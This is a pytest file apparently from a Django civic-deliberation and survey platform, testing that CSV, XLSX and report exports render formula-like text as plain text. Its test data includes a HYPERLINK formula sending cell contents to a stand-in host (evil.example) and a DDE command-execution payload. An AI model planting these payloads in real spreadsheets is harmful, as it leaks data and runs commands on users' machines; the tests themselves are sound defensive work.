"""No export runs a formula: text that starts with = + - @, a tab or a return is shown as text."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pyreadstat
import pytest
from django.urls import reverse

from deliberation.core.cells import neutralise
from deliberation.forum import actions as room
from deliberation.report.analysis import analyse
from deliberation.report.data import RecommendationRow
from deliberation.report.workbook import render_xlsx
from surveys import exports
from surveys.datasets import wave_dataset
from tests.deliberation.report.test_report import report_data
from tests.factories import ForumGroupFactory, PanelistFactory, SessionFactory
from tests.surveys.factories import FULL_ANSWERS, WaveFactory, build_every_type, complete_response

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
STARTS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def formulas_in(xlsx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        return [
            name
            for name in book.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in book.read(name)
        ]


@pytest.mark.parametrize("text", STARTS)
def test_a_formula_like_text_is_shown_as_text(text):
    assert neutralise(text) == "'" + text
    assert neutralise("재활용이 먼저입니다") == "재활용이 먼저입니다" and neutralise(-2) == -2


@pytest.mark.django_db
def test_a_poll_answer_is_text_in_the_csv_and_xlsx_and_unchanged_in_sav(tmp_path):
    wave = WaveFactory()
    build_every_type(wave.questionnaire)
    complete_response(wave, "R001", {**FULL_ANSWERS, "Q6": HYPERLINK})
    dataset = wave_dataset(wave)
    rows = list(csv.DictReader(io.StringIO(exports.to_csv(dataset).decode("utf-8-sig"))))
    assert rows[0]["Q6"] == "'" + HYPERLINK
    content = exports.to_xlsx(dataset)
    assert formulas_in(content) == []
    sheet = openpyxl.load_workbook(io.BytesIO(content))["data"]
    header = [c.value for c in sheet[1]]
    assert sheet.cell(row=2, column=header.index("Q6") + 1).value == "'" + HYPERLINK
    # SPSS and Stata have no formulas: the answer stays exactly as given.
    path = tmp_path / "w.sav"
    path.write_bytes(exports.to_sav(dataset))
    frame, _ = pyreadstat.read_sav(str(path))
    assert frame["Q6"].tolist() == [HYPERLINK]


@pytest.mark.django_db(transaction=True)
def test_room_texts_are_text_in_every_forum_export(client, user_with_role):
    facilitator = user_with_role("facilitator")
    seat = PanelistFactory()
    session = SessionFactory(deliberation=seat.deliberation, kind="plenary")
    group = ForumGroupFactory(session=session, facilitator=facilitator, members=[seat.user])
    group_room = group.room
    plenary = session.rooms.get(group__isnull=True)
    room.do_post_message(group_room.pk, seat.user, "=1+1")
    room.do_add_recommendation(group_room.pk, facilitator, "@SUM(A1:A9)")
    room.do_open_poll(group_room.pk, facilitator, "+cmd|' /C calc'!A0", ["-2+3", "예"])
    room.do_ask_question(plenary.pk, seat.user, "=HYPERLINK(1)")
    client.force_login(user_with_role("analyst"))
    for dataset, column, expected in [
        ("transcript", "text", "'=1+1"),
        ("synthesis", "text", "'@SUM(A1:A9)"),
        ("polls", "question", "'+cmd|' /C calc'!A0"),
        ("polls", "option", "'-2+3"),
        ("questions", "text", "'=HYPERLINK(1)"),
    ]:
        url = reverse("forum:export", args=[session.pk, dataset, "csv"])
        body = client.get(url).content.decode("utf-8-sig")
        values = [row[column] for row in csv.DictReader(io.StringIO(body))]
        assert expected in values, (dataset, values)


def test_the_report_workbook_writes_text_as_text():
    data = report_data(recommendations=(RecommendationRow("01조", HYPERLINK, 0.5, 10),))
    content = render_xlsx(analyse(data))
    assert formulas_in(content) == []
    sheet = openpyxl.load_workbook(io.BytesIO(content))["Recommendations"]
    header = [cell.value for cell in sheet[1]]
    assert sheet.cell(row=2, column=header.index("text") + 1).value == "'" + HYPERLINK
